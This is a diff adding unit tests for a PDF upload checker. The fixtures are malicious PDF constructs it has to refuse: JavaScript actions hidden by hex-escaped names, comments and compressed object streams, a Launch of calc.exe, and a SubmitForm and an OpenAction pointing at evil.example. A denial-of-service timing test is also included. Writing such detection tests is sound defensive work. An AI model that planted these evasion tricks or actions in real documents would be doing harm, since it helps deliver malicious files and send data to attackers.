@@ -1,4 +1,6 @@
 /** What is uploaded is what its bytes say: everything else is refused in words that help. */
+import { randomBytes } from "node:crypto";
+import { deflateSync } from "node:zlib";
 import { expect, it } from "vitest";
 import { itemName, itemSlug } from "./item-name.ts";
 import { pdfOf } from "./library.test-kit.ts";
@@ -45,6 +47,66 @@ it.each([
   ["a page behind a PDF", Buffer.concat([pdfOf(), Buffer.from("<script>alert(1)</script>")]), "attached"],
 ])("refuses %s", (_name, content, words) => {
   expect(refusal(content)).toContain(words);
+});
+
+const withObjects = (objects: string, trailer = "") => pdfOf(200, "Five questions", objects, trailer);
+const packed = (text: string, numbers: string, filter = "/FlateDecode") => {
+  const body = deflateSync(Buffer.from(`${numbers} ${text}`)).toString("latin1");
+  return `7 0 obj\n<< /Type /ObjStm /N 1 /First ${numbers.length + 1} /Filter ${filter} /Length ${body.length} >>\nstream\n${body}\nendstream\nendobj\n`;
+};
+
+it.each([
+  ["a script", "2 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"],
+  ["a script in other letters", "2 0 obj\n<< /#53 /J#61vaScr#69pt /JS (x) >>\nendobj\n"],
+  ["a script behind a remark", "2 0 obj\n<< /S %\n/JavaScript /JS (x) >>\nendobj\n"],
+  ["a script in an object stream", packed("<</S/JavaScript/JS(x)>>", "2 0")],
+  [
+    "a script in what looks like a stream",
+    "2 0 obj\n<<>>\nstream\n3 0 obj <</S/JavaScript/JS(x)>> endobj\nendstream\n",
+  ],
+  ["a program to start", "2 0 obj\n<< /S /Launch /F (calc.exe) >>\nendobj\n"],
+  ["a form that sends", "2 0 obj\n<< /S /SubmitForm /F (https://evil.example) >>\nendobj\n"],
+  [
+    "an address to open at once",
+    "2 0 obj\n<< /OpenAction << /S /URI /URI (https://evil.example) >> >>\nendobj\n",
+  ],
+  [
+    "the same by reference",
+    "2 0 obj\n<< /OpenAction 3 0 R >>\nendobj\n3 0 obj\n<< /S /URI /URI (x) >>\nendobj\n",
+  ],
+  ["an action that is nowhere", "2 0 obj\n<< /OpenAction 99 0 R >>\nendobj\n"],
+])("refuses a PDF with %s", (_name, objects) => {
+  expect(refusal(withObjects(objects))).toContain("contains a script");
+});
+
+it.each([
+  ["that is encrypted", withObjects("", "/Encrypt 9 0 R ")],
+  [
+    "with an object stream that cannot be read",
+    withObjects(packed("<<>>", "2 0", "[/ASCIIHexDecode /FlateDecode]")),
+  ],
+])("refuses a PDF %s", (_name, content) => expect(refusal(content)).toContain("protected"));
+
+it.each([
+  ["opens at a page", "2 0 obj\n<< /OpenAction [3 0 R /FitH null] >>\nendobj\n"],
+  [
+    "opens at a page by reference",
+    "2 0 obj\n<< /OpenAction 3 0 R >>\nendobj\n3 0 obj\n<< /S /GoTo /D [4 0 R /Fit] >>\nendobj\n",
+  ],
+  [
+    "opens at a page of an object stream",
+    `2 0 obj\n<< /OpenAction 3 0 R >>\nendobj\n${packed("<</S/GoTo/D[4 0 R/Fit]>>", "3 0")}`,
+  ],
+  ["has links", "2 0 obj\n<< /S /URI /URI (https://foyer.example/JavaScript/Launch) >>\nendobj\n"],
+])("takes a PDF that %s", (_name, objects) => expect(refusal(withObjects(objects))).toBe("pdf"));
+
+it("checks 20 MB of anything in seconds, not hours", () => {
+  const noise = randomBytes(19 * 1024 * 1024).toString("latin1");
+  const began = performance.now();
+  expect(refusal(withObjects(`2 0 obj\n<<>>\nstream\n${noise}\nendstream\nendobj\n`))).toBe("pdf");
+  for (const hostile of ["/S%", "/OpenAction ", "stream\n", "trailer ", "/XRef /ObjStm stream\n"])
+    refusal(withObjects(hostile.repeat(2_000_000 / hostile.length)));
+  expect(performance.now() - began).toBeLessThan(20_000);
 });
 
 it("takes a PDF of exactly 20 MB, and one with a line break after its end", () => {
